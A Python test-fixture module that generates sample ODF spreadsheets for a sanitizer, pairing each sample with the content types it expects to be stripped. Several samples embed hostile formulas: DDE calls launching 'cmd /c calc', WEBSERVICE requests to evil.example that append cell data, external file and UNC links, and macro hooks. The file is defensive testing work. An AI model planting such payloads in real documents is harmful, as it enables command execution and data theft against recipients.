"""Samples of ods, ots and fods: one for each thing that the lists name."""
import odfmaker as odf
from sample import Sample

ROW = [odf.cell("品名"), odf.cell("数量")]


def sample(name, package, *removals, **more):
    data = package if isinstance(package, bytes) else package.data()
    more.setdefault("verdict", "sanitized" if removals else "unchanged")
    return Sample(name, data, removals=["odf." + kind for kind in removals], **more)


def formula(text, value="7", kind="float"):
    return odf.cell(value, text, kind, value if kind == "float" else "")


def plain():
    rows = [ROW, [odf.cell("鉛筆"), odf.cell("3", "", "float", "3")],
            [odf.cell("計"), formula("of:=SUM([.B2:.B2])", "3")],
            [formula("of:=IF([.B2]>1;\"多\";\"少\")", "多", "string"),
             formula("of:=['表 2'.A1]*COM.MICROSOFT.CONCAT([.A1];\"#/\")", "1"),
             formula('of:=HYPERLINK("https://www.example.jp/";"案内")', "案内", "string"),
             formula('of:=HYPERLINK("#表1.A1";"上")', "上", "string")]]
    names = ('<table:named-expressions><table:named-range table:name="N" table:base-cell-address='
             '"$表1.$A$1" table:cell-range-address="$表1.$A$1:.$B$2"/><table:named-expression '
             'table:name="E" table:base-cell-address="$表1.$A$1" table:expression="of:=SUM([.A1])"/>'
             '</table:named-expressions>')
    ranges = ('<table:database-ranges><table:database-range table:name="D" '
              'table:target-range-address="表1.A1:表1.B3" table:display-filter-buttons="true"/>'
              '</table:database-ranges>')
    validation = ('<table:content-validations><table:content-validation table:name="v" '
                  'table:condition="of:cell-content-is-between(1,9)" table:base-cell-address='
                  '"表1.A1"/></table:content-validations>')
    return odf.ods(validation + odf.sheet(*rows) + odf.sheet(
        [odf.cell("2", "", "float", "2")], name="表 2") + names + ranges)


def formulas():
    """Each is replaced by its value."""
    for number, text in enumerate((
            'of:=DDE("cmd";"/c calc";"x")', 'of:=COM.MICROSOFT.WEBSERVICE("http://evil.example/")',
            'of:=WEBSERVICE("http://evil.example/"&[.A1])', 'of:=EVIL([.A1])',
            'of:=COM.MICROSOFT.FILTERXML([.A1];"//x")',
            "of:=['file:///c:/x.ods'#$Sheet1.A1]", "of:=[file:///c:/x.ods#$Sheet1.A1]",
            "oooc:='file:///c:/x.ods'#$Sheet1.A1", 'of:=HYPERLINK("file:///c:/x")',
            'of:=HYPERLINK([.A1];"x")', 'of:=INDIRECT("\'file:///c:/x.ods\'#$A.A1")',
            'msoxl:=CALL("a","b","J")', "=dde(\"a\";\"b\";\"c\")", 'of:=SUM([.A1', 'of:="x',
            "of:=['\\\\host\\x.ods'#$A.A1]", 'of:=webservice ("http://x")'), 1):
        yield sample(f"formula-{number}.ods", odf.ods(odf.sheet(ROW, [formula(text)])), "formula")
    yield sample("named-expression.ods", odf.ods(
        odf.sheet(ROW) + '<table:named-expressions><table:named-expression table:name="E" '
        'table:base-cell-address="$表1.$A$1" table:expression="of:=DDE(&quot;a&quot;;&quot;b&quot;;'
        '&quot;c&quot;)"/></table:named-expressions>'), "formula")
    yield sample("condition.ods", odf.ods(
        '<table:content-validations><table:content-validation table:name="v" table:condition='
        '"of:is-true-formula(WEBSERVICE(&quot;http://x&quot;))"/></table:content-validations>'
        + odf.sheet(ROW)), "formula")
    yield sample("calcext.ods", odf.ods(odf.sheet(ROW, behind=(
        '<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address='
        '"表1.A1:表1.A2"><calcext:condition calcext:apply-style-name="S" calcext:value='
        '"formula-is(DDE(1))" calcext:base-cell-address="表1.A1"/></calcext:conditional-format>'
        '</calcext:conditional-formats>'))), "formula")


def sources():
    source = ('<table:table-source xlink:href="file:///c:/x.ods" table:table-name="T" '
              'table:filter-name="calc8"/>')
    yield sample("linked-sheet.ods", odf.ods(odf.sheet(ROW, before=source)), "table_source")
    linked = ('<table:table-row><table:table-cell><table:cell-range-source table:name="R" '
              'xlink:href="http://evil.example/x.html" table:filter-name="x"/><text:p>値</text:p>'
              '</table:table-cell></table:table-row>')
    yield sample("linked-cells.ods", odf.ods(odf.sheet(ROW, behind=linked)), "table_source")
    dde = ('<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" '
           'office:dde-topic="/c calc" office:dde-item="x"/><table:table><table:table-row>'
           '<table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>')
    yield sample("dde-links.ods", odf.ods(odf.sheet(ROW) + dde), "dde")
    for kind, more in (("query", 'table:query-name="q"'), ("sql", 'table:sql-statement="SELECT 1"'),
                       ("table", 'table:database-table-name="t"')):
        ranges = ('<table:database-ranges><table:database-range table:name="D" table:target-range'
                  f'-address="表1.A1:表1.B2"><table:database-source-{kind} table:database-name="d" '
                  f'{more}/></table:database-range></table:database-ranges>')
        yield sample(f"database-{kind}.ods", odf.ods(odf.sheet(ROW) + ranges), "database")
    pilot = ('<table:data-pilot-tables><table:data-pilot-table table:name="P" table:target-range-'
             'address="表1.D1:表1.E2">{}</table:data-pilot-table></table:data-pilot-tables>')
    yield sample("pilot-service.ods", odf.ods(odf.sheet(ROW) + pilot.format(
        '<table:source-service table:name="s" table:source-name="x" table:object-name="y" '
        'table:user-name="u" table:password="p"/>')), "database")
    yield sample("pilot.ods", odf.ods(odf.sheet(ROW) + pilot.format(
        '<table:source-cell-range table:cell-range-address="表1.A1:表1.B2"/>')))
    yield sample("pilot-outside.ods", odf.ods(odf.sheet(ROW) + pilot.format(
        '<table:source-cell-range table:cell-range-address="&apos;file:///c:/x.ods&apos;#表1.A1"/>')),
        "external_target")
    yield sample("data-mappings.ods", odf.ods(odf.sheet(ROW) + (
        '<calcext:data-mappings><calcext:data-mapping xlink:href="http://evil.example/"/>'
        '</calcext:data-mappings>')), "table_source")
    yield sample("error-macro.ods", odf.ods(
        '<table:content-validations><table:content-validation table:name="v"><table:error-macro '
        'table:execute="true"/></table:content-validation></table:content-validations>'
        + odf.sheet(ROW)), "macro")


def whole():
    yield sample("plain.ods", plain())
    yield sample("ひな形.ots", odf.Package("spreadsheet-template", odf.content(
        "spreadsheet", odf.sheet(ROW))))
    yield sample("flat.fods", odf.flat("spreadsheet", odf.sheet(ROW)))
    package = odf.ods(odf.sheet(ROW), scripts='<office:scripts><office:script script:language='
                      '"ooo:Basic"/></office:scripts>')
    package.add("Basic/script-lc.xml", "<library/>")
    yield sample("見積書.ods", package, "macro", demo=True, note="a sheet with a macro")
    shapes = ('<table:shapes>' + odf.frame('<draw:object xlink:href="./Object 1" '
                                           'draw:notify-on-update-of-ranges="表1.A1:表1.B2"/>')
              + '</table:shapes>')
    yield sample("chart.ods", odf.chart_object(odf.ods(odf.sheet(ROW, before=shapes)), inner=(
        '<chart:series chart:values-cell-range-address="表1.B1:.B2"/>')))
    chart = (f'<draw:object><office:document office:mimetype="{odf.ODF}chart"><office:body>'
             '<office:chart><chart:chart chart:class="chart:bar"/></office:chart></office:body>'
             '</office:document></draw:object>')
    yield sample("flat-chart.fods", odf.flat("spreadsheet", odf.sheet(
        ROW, before='<table:shapes>' + odf.frame(chart) + '</table:shapes>')))
    inner = chart.replace(odf.ODF + "chart", odf.ODF + "text")
    yield sample("flat-embedded.fods", odf.flat("spreadsheet", odf.sheet(
        ROW, before='<table:shapes>' + odf.frame(inner) + '</table:shapes>')), "embedded_document")


def samples():
    yield from whole()
    yield from formulas()
    yield from sources()
